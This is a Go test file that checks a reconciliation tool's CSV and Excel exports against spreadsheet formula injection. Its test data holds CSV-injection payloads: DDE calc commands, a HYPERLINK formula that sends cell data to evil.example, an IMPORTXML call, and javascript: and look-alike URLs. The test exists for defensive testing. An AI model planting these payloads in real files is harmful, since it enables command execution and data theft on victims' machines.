package reports

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"github.com/reconkit/reconkit/match"
	"github.com/reconkit/reconkit/recon"
	"github.com/reconkit/reconkit/store"
)

// hostileCells is outside data (ids, references, ledger and input text,
// file names) that a spreadsheet would run, or that tries to: the OWASP
// trigger characters, functions that reach out, a quote to break out of
// a HYPERLINK literal, and look-alikes that are text.
var hostileCells = []string{
	"=1+1", "+1", "-1", "@SUM(A1)", "\tTAB", "\rCR", "=",
	`=HYPERLINK("https://evil.example/?d="&A1,"click")`,
	`=cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@IMPORTXML("http://evil.example","//a")`,
	`x","https://evil.example")&("`,
	// Text already: a space or a quote first. Excel, LibreOffice and
	// Google Sheets keep " =1+1" as text (none trims it on opening), so
	// CSVSafe leaves it alone (TestCSVSafe).
	" =1+1", "'=1+1", "\n=1+1",
}

// formulaTrigger reports whether a spreadsheet reads a cell starting
// with c as a formula (OWASP's list, which CSVSafe guards).
func formulaTrigger(s string) bool {
	return s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0]))
}

func TestHostileExceptionsCSV(t *testing.T) {
	var es []recon.Exception
	for i, h := range hostileCells {
		es = append(es, recon.Exception{Category: recon.LedgerUnmatched, Severity: recon.SeverityHigh,
			OrderUID: h, PaymentLinkUID: h, OxpayTxnID: fmt.Sprintf("%03d", i), MerchantReferenceID: h, LedgerRef: h,
			Currency: "IDR", ExpectedMinor: 0, ActualMinor: -125000, DifferenceMinor: -125000 - int64(i), Detail: h})
	}
	var resolved []store.ResolvedException
	for _, x := range es {
		resolved = append(resolved, store.ResolvedException{Exception: x, FirstSeen: "2024-03-01", LastSeen: "2024-03-13"})
	}
	for _, export := range []struct {
		name  string
		write func(io.Writer) error
	}{
		{"exceptions", func(w io.Writer) error { return WriteExceptionsCSV(w, es, Annotations{}) }},
		{"resolved", func(w io.Writer) error { return WriteResolvedCSV(w, resolved) }},
	} {
		t.Run(export.name, func(t *testing.T) {
			var buf bytes.Buffer
			if err := export.write(&buf); err != nil {
				t.Fatal(err)
			}
			checkHostileCSV(t, &buf)
		})
	}
}

// checkHostileCSV reads an export of the hostileCells exceptions back.
func checkHostileCSV(t *testing.T, r io.Reader) {
	t.Helper()
	recs, err := csv.NewReader(r).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != len(hostileCells)+1 {
		t.Fatalf("got %d records, want a header and %d rows", len(recs), len(hostileCells))
	}
	for _, rec := range recs[1:] {
		i, err := strconv.Atoi(rec[4])
		if err != nil {
			t.Fatalf("txn id %q: %v", rec[4], err)
		}
		h := hostileCells[i]
		t.Run(strconv.Quote(h), func(t *testing.T) {
			want := h
			if formulaTrigger(h) {
				want = "'" + h
			}
			for _, col := range []int{2, 3, 5, 6, 11} { // order, link, merchant ref, ledger ref, detail
				if rec[col] != want {
					t.Errorf("%s: got %q, want %q", ExceptionColumns[col], rec[col], want)
				}
				if formulaTrigger(rec[col]) {
					t.Errorf("%s: %q would run as a formula", ExceptionColumns[col], rec[col])
				}
			}
			// Negative amounts stay plain integers: the guard is for text.
			wantAmounts := []string{"0", "-125000", strconv.Itoa(-125000 - i)}
			if d := cmp.Diff(wantAmounts, rec[8:11]); d != "" {
				t.Errorf("amounts (-want +got):\n%s", d)
			}
		})
	}
}

// xlsxCell is a cell as the worksheet stores it.
type xlsxCell struct {
	sheet, ref string
	typ        excelize.CellType
	value      string // raw: a number as stored, text decoded
	formula    string
}

// readCells reads every non-empty cell of every sheet with its type and
// formula, and counts the <f> elements in the package's worksheet XML,
// so a formula excelize would not report still shows.
func readCells(t *testing.T, path string) ([]xlsxCell, int) {
	t.Helper()
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var cells []xlsxCell
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c := range row {
				ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
				formula, err := f.GetCellFormula(sheet, ref)
				if err != nil {
					t.Fatal(err)
				}
				if row[c] == "" && formula == "" {
					continue
				}
				typ, err := f.GetCellType(sheet, ref)
				if err != nil {
					t.Fatal(err)
				}
				cells = append(cells, xlsxCell{sheet, ref, typ, row[c], formula})
			}
		}
	}
	zr, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer zr.Close()
	raw := 0
	for _, zf := range zr.File {
		if !strings.HasPrefix(zf.Name, "xl/worksheets/sheet") {
			continue
		}
		rc, err := zf.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatal(err)
		}
		raw += bytes.Count(b, []byte("<f>")) + bytes.Count(b, []byte("<f "))
	}
	return cells, raw
}

// The only formulas the workbook may hold: its own subtotals, and a
// payment link as HYPERLINK(url, uid) with both arguments string
// literals ("" is a quote inside a literal).
var (
	subtotalFormula  = regexp.MustCompile(`^SUBTOTAL\((103|109),[A-Z]+[0-9]+:[A-Z]+[0-9]+\)$`)
	hyperlinkFormula = regexp.MustCompile(`^HYPERLINK\("((?:[^"]|"")*)","((?:[^"]|"")*)"\)$`)
)

func TestHostileWorkbook(t *testing.T) {
	ctx := context.Background()
	db, run := emptyRun(t)
	day := time.Date(2024, 3, 14, 3, 0, 0, 0, time.UTC)
	// Links with an http(s) URL become HYPERLINK cells, whatever their
	// uid; the others keep their uid as text. URLs that are not plain
	// http(s) must never get into a formula.
	// The last three are well-formed links, but to hosts the workbook is
	// not allowed to send finance to.
	badURLs := []string{`https://x.example/" & "y`, "javascript:alert(1)", `=HYPERLINK("https://evil.example")`, "https://", "//evil.example",
		"https://evil.example/l/1", "https://pay.example.evil.example/l/1", "https://pay.example@evil.example/l/1"}
	var links []recon.PaymentLink
	var ledger []recon.LedgerEntry
	var errs []recon.InputError
	for i, h := range hostileCells {
		links = append(links, recon.PaymentLink{UID: h, OrderUID: h, Status: "paid", PaymentURL: fmt.Sprintf("https://pay.example/l/%d", i),
			Currency: "IDR", AmountMinor: 125000, PaidAt: &day, CreatedAt: day, UpdatedAt: day})
		ledger = append(ledger, recon.LedgerEntry{BookedOn: day.Truncate(24 * time.Hour), Reference: h, Description: h, Currency: "IDR",
			AmountMinor: -125000, RowHash: fmt.Sprintf("row-%d", i), SourceFile: h, SourceLine: i + 2})
		errs = append(errs, recon.InputError{Source: h, File: h, Line: i + 1, Text: h, Reason: h, RecordedAt: day})
	}
	for i, u := range badURLs {
		links = append(links, recon.PaymentLink{UID: fmt.Sprintf("BAD-URL-%d", i), OrderUID: "x", Status: "paid", PaymentURL: u,
			Currency: "IDR", AmountMinor: 1, CreatedAt: day, UpdatedAt: day})
	}
	load, err := db.BeginLoad(ctx)
	if err != nil {
		t.Fatal(err)
	}
	defer load.Rollback()
	if _, err := load.PaymentLinks(links); err != nil {
		t.Fatal(err)
	}
	if _, err := load.LedgerEntries(ledger); err != nil {
		t.Fatal(err)
	}
	if _, err := load.InputErrors(errs); err != nil {
		t.Fatal(err)
	}
	var es []recon.Exception
	var rs []recon.MatchResult
	for i, h := range hostileCells {
		id := int64(i + 1)
		es = append(es,
			recon.Exception{Category: recon.LedgerUnmatched, Severity: recon.SeverityHigh, OrderUID: h, PaymentLinkUID: h,
				OxpayTxnID: h, MerchantReferenceID: h, LedgerRef: h, Currency: "IDR", ActualMinor: -125000, DifferenceMinor: -125000,
				Detail: h, LedgerEntryIDs: recon.IDList{id}},
			recon.Exception{Category: recon.InputErrorCategory, Severity: recon.SeverityMedium, Detail: h, InputErrorID: id})
		rs = append(rs,
			recon.MatchResult{Kind: match.KindSale, OrderUID: h, PaymentLinkUID: h, OxpayTxnID: fmt.Sprintf("S%03d", i),
				MerchantReferenceID: h, State: h, Source: match.SourceAPI, Currency: "IDR", OrderMinor: 125000, GatewayMinor: 125000, Clean: true},
			recon.MatchResult{Kind: match.KindRefund, OrderUID: h, PaymentLinkUID: h, OxpayTxnID: fmt.Sprintf("R%03d", i), OriginalTxnID: h,
				MerchantReferenceID: h, LedgerEntryID: id, State: h, Source: match.SourceAPI, Currency: "IDR", OrderMinor: 125000,
				GatewayMinor: 125000, Clean: true})
	}
	for i := range badURLs {
		rs = append(rs, recon.MatchResult{Kind: match.KindSale, PaymentLinkUID: fmt.Sprintf("BAD-URL-%d", i), OxpayTxnID: fmt.Sprintf("B%03d", i),
			State: "success", Source: match.SourceAPI, Currency: "IDR", GatewayMinor: 7, Clean: true}) // no amount cell reads as a hostile "-1"
	}
	if _, err := load.Exceptions(run, es); err != nil {
		t.Fatal(err)
	}
	if _, err := load.MatchResults(run, rs); err != nil {
		t.Fatal(err)
	}
	if err := load.Commit(); err != nil {
		t.Fatal(err)
	}
	for i, h := range hostileCells {
		if err := db.RecordInputFile(ctx, store.InputFile{Kind: "ledger", Path: h, SHA256: fmt.Sprintf("%064d", i), IngestedAt: day}); err != nil {
			t.Fatal(err)
		}
	}
	out := filepath.Join(t.TempDir(), "r.xlsx")
	if err := WriteWorkbook(ctx, db, run, WorkbookOptions{Path: out, LinkHosts: []string{"pay.example"}}); err != nil {
		t.Fatal(err)
	}
	cells, rawFormulas := readCells(t, out)

	// Every formula is one the workbook writes itself.
	formulas, hyperlinks := 0, 0
	for _, c := range cells {
		if c.formula == "" {
			continue
		}
		formulas++
		if subtotalFormula.MatchString(c.formula) {
			continue
		}
		m := hyperlinkFormula.FindStringSubmatch(c.formula)
		if m == nil {
			t.Errorf("%s!%s: formula %q is not one the workbook writes", c.sheet, c.ref, c.formula)
			continue
		}
		u, text := strings.ReplaceAll(m[1], `""`, `"`), strings.ReplaceAll(m[2], `""`, `"`)
		if !strings.HasPrefix(u, "https://pay.example/l/") {
			t.Errorf("%s!%s: HYPERLINK to %q, which is not a plain http(s) URL of a link", c.sheet, c.ref, u)
		}
		if c.value != text {
			t.Errorf("%s!%s: HYPERLINK shows %q, cached %q", c.sheet, c.ref, text, c.value)
		}
		hyperlinks++
	}
	// Each hostile uid is a link on its exception, its sale and its
	// refund, but for those with a control character, which stay text.
	wantLinks := 0
	for _, h := range hostileCells {
		if !strings.ContainsAny(h, "\t\r\n") {
			wantLinks += 3
		}
	}
	if hyperlinks != wantLinks {
		t.Errorf("got %d HYPERLINK cells, want %d", hyperlinks, wantLinks)
	}
	if formulas != rawFormulas {
		t.Errorf("excelize reports %d formulas, the sheets' XML holds %d <f> elements", formulas, rawFormulas)
	}

	// Each hostile text is written where it belongs, and as text: a
	// string cell, or the shown text of a link's HYPERLINK (above).
	byValue := map[string][]xlsxCell{}
	for _, c := range cells {
		byValue[c.value] = append(byValue[c.value], c)
	}
	for _, h := range hostileCells {
		t.Run(strconv.Quote(h), func(t *testing.T) {
			found := byValue[h]
			// Exceptions: detail, order, link, txn, merchant ref, ledger ref
			// (6); input errors: detail, source, file, text (4); Matched:
			// order, link, merchant ref, state (4); Refunds & voids: those,
			// the original txn id and the ledger reference (6); Summary:
			// the input file's path (1).
			if len(found) < 21 {
				t.Errorf("found in %d cells, want at least 21: %v", len(found), found)
			}
			for _, c := range found {
				switch {
				case c.formula != "":
					if !strings.HasPrefix(c.formula, "HYPERLINK(") || c.typ != excelize.CellTypeFormula {
						t.Errorf("%s!%s: %q is in formula %q", c.sheet, c.ref, h, c.formula)
					}
				case c.typ != excelize.CellTypeInlineString && c.typ != excelize.CellTypeSharedString:
					t.Errorf("%s!%s: %q stored as cell type %v, want text", c.sheet, c.ref, h, c.typ)
				}
			}
		})
	}
	for i := range badURLs {
		uid := fmt.Sprintf("BAD-URL-%d", i)
		for _, c := range byValue[uid] {
			if c.formula != "" || c.typ != excelize.CellTypeInlineString {
				t.Errorf("%s!%s: link with URL %q: got type %v formula %q, want plain text", c.sheet, c.ref, badURLs[i], c.typ, c.formula)
			}
		}
		if len(byValue[uid]) == 0 {
			t.Errorf("link %s not found", uid)
		}
	}

	// Negative amounts in the money columns stay numbers.
	checkNegativeAmounts(t, out, CategorySheetName(recon.LedgerUnmatched), len(hostileCells), map[string]string{
		"Actual": "-1250", "Actual (minor)": "-125000", "Difference": "-1250", "Difference (minor)": "-125000",
	})
	checkNegativeAmounts(t, out, SheetRefunds, len(hostileCells), map[string]string{
		"Expected in ledger": "-1250", "Expected in ledger (minor)": "-125000", "Ledger amount": "-1250", "Ledger amount (minor)": "-125000",
	})
}

// checkNegativeAmounts finds a sheet's header and checks, in every data
// row, that each named column holds the number want (as stored), with
// no formula and a numeric cell type.
func checkNegativeAmounts(t *testing.T, path, sheet string, rows int, want map[string]string) {
	t.Helper()
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	all, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	header := -1
	cols := map[string]int{}
	for r, row := range all {
		for c, v := range row {
			if _, ok := want[v]; ok {
				header, cols[v] = r, c
			}
		}
		if header >= 0 {
			break
		}
	}
	if len(cols) != len(want) {
		t.Fatalf("%s: found columns %v, want %d of them", sheet, cols, len(want))
	}
	checked := 0
	for r := header + 1; r < len(all); r++ {
		for name, c := range cols {
			ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
			got, _ := f.GetCellValue(sheet, ref, excelize.Options{RawCellValue: true})
			typ, _ := f.GetCellType(sheet, ref)
			formula, _ := f.GetCellFormula(sheet, ref)
			if got != want[name] || formula != "" || (typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber) {
				t.Errorf("%s!%s (%s): got %q type %v formula %q, want the number %s", sheet, ref, name, got, typ, formula, want[name])
			}
			checked++
		}
	}
	if checked != rows*len(want) {
		t.Errorf("%s: checked %d amount cells, want %d", sheet, checked, rows*len(want))
	}
}
